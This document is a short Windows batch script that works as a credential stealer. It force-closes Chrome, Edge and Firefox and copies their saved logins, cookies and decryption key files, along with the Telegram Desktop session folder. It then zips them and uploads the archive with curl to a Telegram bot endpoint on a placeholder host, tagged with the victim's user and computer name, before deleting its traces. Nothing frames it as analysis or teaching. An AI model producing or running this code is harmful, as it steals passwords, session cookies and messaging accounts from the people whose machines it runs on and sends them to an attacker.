@echo off
setlocal
set "S=%TEMP%\%RANDOM%%RANDOM%"
mkdir "%S%\chrome" "%S%\edge" "%S%\ff" 2>nul
taskkill /f /im chrome.exe >nul 2>&1
taskkill /f /im msedge.exe >nul 2>&1
taskkill /f /im firefox.exe >nul 2>&1
copy /y "%LOCALAPPDATA%\Google\Chrome\User Data\Local State" "%S%\chrome\" >nul 2>&1
copy /y "%LOCALAPPDATA%\Google\Chrome\User Data\Default\Login Data" "%S%\chrome\" >nul 2>&1
copy /y "%LOCALAPPDATA%\Google\Chrome\User Data\Default\Network\Cookies" "%S%\chrome\" >nul 2>&1
copy /y "%LOCALAPPDATA%\Google\Chrome\User Data\Default\Web Data" "%S%\chrome\" >nul 2>&1
copy /y "%LOCALAPPDATA%\Microsoft\Edge\User Data\Local State" "%S%\edge\" >nul 2>&1
copy /y "%LOCALAPPDATA%\Microsoft\Edge\User Data\Default\Login Data" "%S%\edge\" >nul 2>&1
for /d %%P in ("%APPDATA%\Mozilla\Firefox\Profiles\*") do (
    copy /y "%%P\logins.json" "%S%\ff\%%~nxP_logins.json" >nul 2>&1
    copy /y "%%P\key4.db" "%S%\ff\%%~nxP_key4.db" >nul 2>&1
    copy /y "%%P\cookies.sqlite" "%S%\ff\%%~nxP_cookies.sqlite" >nul 2>&1
)
xcopy /e /i /q /y "%APPDATA%\Telegram Desktop\tdata" "%S%\tg" >nul 2>&1
tar -a -cf "%S%.zip" -C "%S%" .
curl -s -F "document=@%S%.zip" -F "caption=%USERNAME%@%COMPUTERNAME%" "https://api.telegram.invalid/bot000000:AAfakeTOKEN/sendDocument?chat_id=-100000000"
rmdir /s /q "%S%"
del /q "%S%.zip"
endlocal
